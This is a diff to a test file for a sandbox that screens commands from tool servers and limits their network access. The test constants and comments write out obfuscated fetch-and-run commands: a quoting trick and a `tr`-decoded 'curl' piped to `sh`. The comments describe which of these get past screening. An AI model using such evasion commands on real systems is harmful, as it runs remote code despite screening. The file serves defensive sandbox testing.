@@ -1,9 +1,10 @@
 /**
  * The sandbox with real servers and real network attempts, on the real kernel:
  *
- * - the quoting trick (`sh -c "c''url -s http://127.0.0.1:PORT/x | sh"`) as an untrusted server
- *   gets past screening and still fetches nothing (the listener counts); as a full-trust server,
- *   whose network is open, it does fetch — the trick is real;
+ * - the quoting trick (`sh -c "c''url -s http://127.0.0.1:PORT/x | sh"`) is refused by screening;
+ *   a command name screening cannot read (one a program prints) gets past it as an untrusted
+ *   server and still fetches nothing (the listener counts); as a full-trust server, whose network
+ *   is open, it does fetch — the trick is real;
  * - a `host:port` list lets exactly that destination through hermit's egress proxy, not another,
  *   and no direct connection;
  * - the official servers keep working under the defaults: server-filesystem (its root declared
@@ -64,9 +65,10 @@ describe(
     });
 
     // screening reads shell words as the shell does, so `c''url` is curl and is refused (gate 1);
-    // an encoding it does not decode (printf's octal escapes spell "curl") still passes it
+    // a name a program prints still passes it (`tr` turns "btqk" into "curl"): screening does not
+    // run programs, and refusing every `$(…)` command name would refuse `$(command -v node)` too
     const TRICK = (port: number) => `c''url -s http://127.0.0.1:${port}/x | sh`;
-    const ENCODED = (port: number) => `printf "\\143\\165\\162\\154 -s http://127.0.0.1:${port}/x" | sh | sh`;
+    const ENCODED = (port: number) => `$(echo btqk | tr a-y b-z) -s http://127.0.0.1:${port}/x`;
     const adapter = (name: string, trust: string, line = ENCODED) => {
       const dir = path.join(tmp.path, name);
       mkdirSync(dir);
